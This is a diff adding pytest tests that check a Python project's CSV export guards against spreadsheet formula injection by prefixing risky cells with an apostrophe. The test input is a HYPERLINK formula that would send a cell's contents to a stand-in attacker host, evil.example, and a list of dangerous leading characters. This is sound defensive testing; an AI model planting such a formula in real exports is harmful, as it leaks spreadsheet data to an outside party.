@@ -6,6 +6,7 @@ import csv
 import io
 import json
 from datetime import datetime, timedelta
+from typing import Any
 
 import icalendar
 import pytest
@@ -13,7 +14,8 @@ import pytest
 from okide.clock import STOCKHOLM
 from okide.exports import PARTY_CSV_COLUMNS, render_exports
 from okide.load import load_register
-from okide.models import Register
+from okide.markdown import plain_text
+from okide.models import Contact, Register
 from okide.settings import SiteSettings
 from tests.conftest import SMALL, TODAY
 
@@ -163,3 +165,54 @@ def test_feed_drops_exactly_the_characters_xml_does_not_allow() -> None:
     kept = xml_text(text)
     assert isinstance(kept, str)
     assert kept == "".join(char for char in text if allowed(ord(char)))
+
+
+HOSTILE_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def _party_with(register: Register, party_id: str, **fields: Any) -> Register:
+    """The register with one party's fields replaced, unvalidated: what a rule might let by."""
+    party = register.signatories[party_id]
+    contact_fields = {k: fields.pop(k) for k in ("email", "phone", "url") if k in fields}
+    if contact_fields:
+        contact = party.contact or Contact(email="a@b.se")
+        fields["contact"] = contact.model_copy(update=contact_fields)
+    changed = party.model_copy(update=fields)
+    return register.model_copy(update={"signatories": {**register.signatories, party_id: changed}})
+
+
+def _csv_rows(register: Register) -> list[dict[str, str]]:
+    data = render_exports(register, SITE, TODAY)["data/parter.csv"].decode("utf-8")
+    return list(csv.DictReader(io.StringIO(data, newline="")))
+
+
+@pytest.mark.parametrize("start", HOSTILE_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
+@pytest.mark.parametrize(
+    "column", ["name", "description", "website", "org_number", "email", "phone", "url"]
+)
+def test_csv_cell_that_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(
+    fixture_register: Register, start: str, column: str
+) -> None:
+    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klicka")'
+    register = _party_with(fixture_register, "no", **{column: hostile})
+    row = next(r for r in _csv_rows(register) if r["id"] == "no")
+    csv_column = f"contact_{column}" if column in ("email", "phone", "url") else column
+    # The description is written as plain text, which has no leading white space to guard.
+    written = plain_text(hostile) if column == "description" else hostile
+    guarded = written.startswith(tuple(HOSTILE_STARTS))
+    assert row[csv_column] == ("'" + written if guarded else written)
+    assert all(not cell.startswith(tuple(HOSTILE_STARTS)) for cell in row.values())
+
+
+def test_csv_keeps_cells_that_do_not_start_like_a_formula(fixture_register: Register) -> None:
+    text = "Idrott för alla = glädje, +1 -2 @alla"
+    register = _party_with(fixture_register, "no", description=text, phone="0522-69 60 00")
+    row = next(r for r in _csv_rows(register) if r["id"] == "no")
+    assert (row["description"], row["contact_phone"]) == (text, "0522-69 60 00")
+
+
+def test_json_keeps_the_exact_text_of_a_cell_the_csv_guards(fixture_register: Register) -> None:
+    register = _party_with(fixture_register, "no", description="=1+1", phone="+46 522 69 60 00")
+    parties = json.loads(render_exports(register, SITE, TODAY)["data/parter.json"])
+    party = next(p for p in parties if p["id"] == "no")
+    assert (party["description"], party["contact"]["phone"]) == ("=1+1", "+46 522 69 60 00")
